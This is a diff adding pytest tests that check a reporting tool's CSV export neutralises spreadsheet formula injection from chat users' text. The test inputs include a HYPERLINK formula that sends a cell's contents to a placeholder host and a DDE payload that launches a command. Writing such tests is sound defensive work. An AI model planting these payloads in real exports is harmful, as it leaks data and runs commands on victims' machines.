@@ -288,3 +288,29 @@ async def test_a_persons_control_characters_never_reach_the_terminal_or_the_csv(
     written = path.read_text(encoding="utf-8")
     assert not any(c in written for c in CONTROLS), ascii(written)
     assert "why?\nreally" in written  # a line break in a cell is kept, quoted
+
+
+@pytest.mark.parametrize(
+    "typed", ['=HYPERLINK("http://x.example/?"&A1,"more")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+)
+def test_a_csv_cell_is_never_a_formula(tmp_path: Path, typed: str) -> None:
+    """A chat user's question or reason opening with = + - or @ was written as it was: a spreadsheet opening
+    the CSV runs it as a formula."""
+    report = Report(
+        T0,
+        (Gap(typed, 2, (typed, "other"), T0),),
+        (DownVote("a", typed, typed, T0, T0, [], "v1"),),
+        (AskedQuestion(typed, 2, T0),),
+    )
+    path = tmp_path / "r.csv"
+    write_csv(report, path)
+    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))[1:]
+    cells = [cell for row in rows for cell in (row[2], row[3]) if cell]
+    assert cells and all(cell in (f"'{typed}", f"'{typed} | other") for cell in cells), cells
+
+
+def test_a_csv_cell_of_plain_words_is_as_typed(tmp_path: Path) -> None:
+    report = Report(T0, (), (), (AskedQuestion("What is 2-3? e=mc2 @home", 1, T0),))
+    path = tmp_path / "r.csv"
+    write_csv(report, path)
+    assert list(csv.reader(path.read_text(encoding="utf-8").splitlines()))[1][2] == "What is 2-3? e=mc2 @home"
